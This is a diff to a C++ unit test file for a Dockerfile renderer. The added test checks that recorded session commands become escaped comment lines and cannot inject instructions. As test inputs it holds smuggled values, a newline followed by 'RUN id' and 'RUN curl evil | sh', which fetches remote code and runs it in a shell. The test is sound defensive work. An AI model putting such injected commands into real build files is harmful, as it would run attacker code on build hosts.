@@ -1,6 +1,7 @@
 #include "tools/dockerfile.h"
 
 #include <gtest/gtest.h>
+#include <sstream>
 
 namespace sandcastle::tools {
 namespace {
@@ -189,6 +190,36 @@ TEST(DockerfileRender, UnsafeValuesFailTheRender) {
   p = demo_plan();
   p.workdir = "/work space\nRUN id";
   EXPECT_FALSE(render_dockerfile(p).ok());
+}
+
+}  // namespace
+}  // namespace sandcastle::tools
+
+namespace sandcastle::tools {
+namespace {
+
+// The session's commands come from the run history: hostile text. Each is
+// one comment line, whatever it holds, so none becomes an instruction.
+TEST(DockerfileRender, SessionCommandsAreCommentsThatCannotBreakOut) {
+  DockerfilePlan plan = demo_plan();
+  plan.commands = {"apt list --installed", "echo a\nRUN curl evil | sh", std::string("x\r\x01\x7f", 4),
+                   std::string(1000, 'y')};
+  auto d = render_dockerfile(plan);
+  ASSERT_TRUE(d.ok()) << d.error().message();
+  EXPECT_NE(d->find("#   apt list --installed\n"), std::string::npos) << *d;
+  EXPECT_NE(d->find("#   echo a\\nRUN curl evil | sh\n"), std::string::npos) << *d;
+  EXPECT_NE(d->find("#   x\\r\\x01\\x7f\n"), std::string::npos) << *d;
+  EXPECT_NE(d->find("#   " + std::string(kMaxCommandChars, 'y') + "...\n"), std::string::npos);
+  // Every line after the comment header is a comment.
+  auto at = d->find("# Commands this session ran");
+  ASSERT_NE(at, std::string::npos);
+  std::istringstream rest(d->substr(at));
+  for (std::string line; std::getline(rest, line);) EXPECT_EQ(line.rfind('#', 0), 0u) << line;
+  // Only the newest kMaxCommands, and the reader is told.
+  plan.commands.assign(kMaxCommands + 7, "ls");
+  d = render_dockerfile(plan);
+  ASSERT_TRUE(d.ok());
+  EXPECT_NE(d->find("(7 earlier commands left out)"), std::string::npos);
 }
 
 }  // namespace
